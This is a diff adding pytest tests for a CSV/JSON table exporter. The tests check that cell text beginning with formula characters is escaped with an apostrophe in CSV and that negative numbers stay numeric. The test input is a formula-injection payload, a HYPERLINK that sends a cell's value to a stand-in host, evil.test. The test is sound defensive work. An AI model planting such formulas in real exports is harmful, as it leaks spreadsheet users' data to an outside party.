@@ -3,6 +3,8 @@ rows, values not shown, versions that follow what changed, and the package descr
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import UTC, date, datetime
 from decimal import Decimal
@@ -75,6 +77,25 @@ def test_csv_and_json_hold_the_same_rows_each_in_its_own_form() -> None:
         {"id": 'b,"c"', "day": None, "amount": -7, "shown": False, "count": None},
     ]
     assert table.rows == 2
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_text_that_starts_like_a_formula_is_text_in_the_csv_and_as_written_in_the_json(
+    start: str,
+) -> None:
+    written = f'{start}HYPERLINK("http://evil.test/?"&A1)'
+
+    table = tabulate(NOTES, [("a", written)])
+
+    (row,) = list(csv.DictReader(io.StringIO(table.csv.decode(), newline="")))
+    assert row == {"item": "a", "text": "'" + written}
+    assert json.loads(table.json) == [{"item": "a", "text": written}]
+
+
+def test_a_negative_number_stays_a_number_in_the_csv() -> None:
+    table = tabulate(ITEMS, [("a", None, Decimal("-250.00"), False, -3)])
+
+    assert table.csv.decode().splitlines()[1] == "a,,-250.00,false,-3"
 
 
 def test_a_row_of_the_wrong_length_is_refused() -> None:
